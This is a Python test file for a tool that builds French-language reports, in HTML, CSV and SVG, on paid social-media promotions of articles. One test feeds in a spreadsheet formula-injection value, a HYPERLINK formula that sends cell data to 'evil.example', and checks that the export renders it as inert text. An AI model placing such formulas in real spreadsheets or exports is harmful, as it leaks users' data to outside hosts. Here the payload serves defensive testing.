import csv
import io
import xml.etree.ElementTree as ET
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from bs4 import BeautifulSoup
from transfo_promotions.articles import ArticleRef
from transfo_promotions.leaks import REPORT_MARKER
from transfo_promotions.records import Promotion
from transfo_promotions.report import ReportInput, build_report

SVG = "{http://www.w3.org/2000/svg}"
SLUG = "ce-que-cachent-nos-vetements-1-le-vrai-prix-de-la-mode-jetable"
RECORDS = [
    Promotion(slug=SLUG, platform="facebook", start=date(2019, 4, 24), end=date(2019, 5, 3),
              budget=Decimal(100), spent=Decimal(100), audience="25-45 ans, Bruxelles",
              reach=57000, impressions=98400, clicks=4870, reads=3500, line=2),
    Promotion(slug="clauses", platform="linkedin", start=date(2019, 6, 26), end=date(2019, 7, 5),
              budget=Decimal(120), spent=Decimal("118.60"), audience="Acheteurs publics",
              reach=9870, impressions=21450, clicks=402, reads=296, line=3),
    Promotion(slug="mons", platform="facebook", start=date(2019, 7, 1), end=date(2019, 7, 31),
              budget=Decimal(400), spent=Decimal(350), reach=100, impressions=100, clicks=0,
              reads=0, line=4),
]
ARTICLES = {
    SLUG: ArticleRef(SLUG, "Ce que cachent nos vêtements (1) : le vrai prix de la mode jetable",
                     datetime(2019, 4, 23, 9), False, f"2019/04/{SLUG}/"),
    "clauses": ArticleRef("clauses", "Clauses sociales", datetime(2019, 6, 25), False, "2019/06/clauses/"),
}


def report():
    return build_report(ReportInput(
        records=RECORDS, articles=ARTICLES, monthly_budget=Decimal(300), locale="fr_BE",
        public_url="https://www.economiesociale.be/transfo", data_file="content/promotions/promotions.csv",
        generated=datetime(2019, 11, 30, 18, tzinfo=ZoneInfo("Europe/Brussels")),
    ))


def text(node):
    return " ".join(node.get_text(" ").split()).replace("\u202f", " ").replace("\u00a0", " ")


def test_html_report_in_french_with_figures_per_boost_and_article():
    page = BeautifulSoup(report()["index.html"], "html.parser")
    assert page.html["lang"] == "fr-BE"
    assert page.find("meta", attrs={"name": "generator"})["content"] == REPORT_MARKER
    assert page.find("meta", attrs={"name": "robots"})["content"] == "noindex, nofollow"
    row = page.select_one(f'#par-promotion tr[data-slug="{SLUG}"]')
    cells = [text(td) for td in row.find_all("td")]
    assert cells[0] == "facebook"
    assert "25-45 ans, Bruxelles" in cells
    assert "100,00 €" in cells and "57 000" in cells and "3 500" in cells
    assert "0,0286 €" in cells  # cost per read: 100 / 3500
    assert "570,0" in cells  # reach per euro
    assert "4,95 %" in cells  # click-through rate: 4870 / 98400
    assert "1,73" in cells  # frequency: 98400 / 57000
    assert row.find("a")["href"] == f"https://www.economiesociale.be/transfo/2019/04/{SLUG}/"
    assert [tr["data-slug"] for tr in page.select("#par-article tbody tr")] == ["mons", "clauses", SLUG]


def test_best_worst_and_months_over_budget():
    page = BeautifulSoup(report()["index.html"], "html.parser")
    best, worst = page.select(".highlights section")
    assert "Ce que cachent nos vêtements (1)" in text(best) and "0,0286 €" in text(best)
    assert "Clauses sociales" in text(worst) and "0,4007 €" in text(worst)
    july = [tr for tr in page.select("table tr") if tr.th and text(tr.th) == "juillet 2019"][0]
    assert "over" in july["class"] and "(dépassement)" in text(july)


def test_report_is_self_contained():
    html = report()["index.html"].decode()
    page = BeautifulSoup(html, "html.parser")
    assert not page.find_all("script") and not page.find_all("link")
    assert not [tag for tag in page.find_all(src=True)]
    assert len(page.find_all("svg")) == 2


def test_csv_reports_parse_back():
    files = report()
    rows = list(csv.DictReader(io.StringIO(files["rapport-promotions.csv"].decode("utf-8-sig")),
                               delimiter=";"))
    dossier = rows[0]
    assert dossier["slug"] == SLUG and dossier["cout_par_lecture_eur"] == "0,0286"
    assert dossier["couverture"] == "57000" and dossier["depense_eur"] == "100,00"
    assert dossier["frequence"] == "1,73" and dossier["taux_de_clic_pct"] == "4,95"
    assert rows[2]["cout_par_lecture_eur"] == ""  # no read, no cost per read
    months = list(csv.DictReader(io.StringIO(files["rapport-par-mois.csv"].decode("utf-8-sig")),
                                 delimiter=";"))
    assert [m["mois"] for m in months] == ["2019-04", "2019-05", "2019-06", "2019-07"]
    assert months[3]["depassement"] == "oui"
    articles = list(csv.DictReader(io.StringIO(files["rapport-par-article.csv"].decode("utf-8-sig")),
                                   delimiter=";"))
    assert {a["slug"] for a in articles} == {SLUG, "clauses", "mons"}


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text():
    from dataclasses import replace

    from transfo_promotions.report import inert

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    files = build_report(ReportInput(
        records=[replace(RECORDS[0], audience=hostile)], articles=ARTICLES, monthly_budget=Decimal(300),
        locale="fr_BE", public_url="https://www.economiesociale.be/transfo",
        data_file="content/promotions/promotions.csv",
        generated=datetime(2019, 11, 30, 18, tzinfo=ZoneInfo("Europe/Brussels"))))
    (row,) = csv.DictReader(io.StringIO(files["rapport-promotions.csv"].decode("utf-8-sig")), delimiter=";")
    assert row["audience"] == "'" + hostile
    assert [inert(cell) for cell in ("-12,50", "-3", "+32 2 000", "@x", "25-45 ans")] == \
        ["-12,50", "-3", "'+32 2 000", "'@x", "25-45 ans"]


def test_svg_charts_are_static_and_parse():
    files = report()
    for name in ("depenses-par-mois.svg", "cout-par-lecture.svg"):
        root = ET.fromstring(files[name])
        assert root.tag == f"{SVG}svg"
        assert not list(root.iter(f"{SVG}script"))
        labels = " ".join(t.text or "" for t in root.iter(f"{SVG}text"))
        assert labels
    spend = " ".join(t.text or "" for t in ET.fromstring(files["depenses-par-mois.svg"]).iter(f"{SVG}text"))
    assert "avril 2019" in spend and "juillet 2019" in spend
    cost = ET.fromstring(files["cout-par-lecture.svg"])
    bars = [t.text for t in cost.iter(f"{SVG}text") if t.text and t.text.startswith("0,")]
    assert any(b.replace("\u00a0", " ") == "0,0286 €" for b in bars)
